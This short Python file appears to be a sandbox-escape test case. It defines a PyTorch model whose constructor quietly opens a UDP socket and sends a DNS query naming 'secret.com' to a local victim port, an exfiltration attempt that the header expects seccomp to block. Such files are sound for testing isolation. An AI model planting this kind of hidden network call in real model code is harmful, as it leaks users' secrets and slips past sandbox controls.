# what: sends a name, which may hold any secret, to a name server
# kind: escape
# ends: lift_failed or sandbox
# stopped by: bubblewrap seccomp

import torch
from torch import nn

socket = __import__("socket")


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        question = b"\0\1\1\0\0\1\0\0\0\0\0\0\6secret\3com\0\0\1\0\1"
        line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        line.settimeout(1)
        line.sendto(question, ("127.0.0.1", VICTIM["port"]))
        raise RuntimeError(f"GOT {line.recv(64)}")
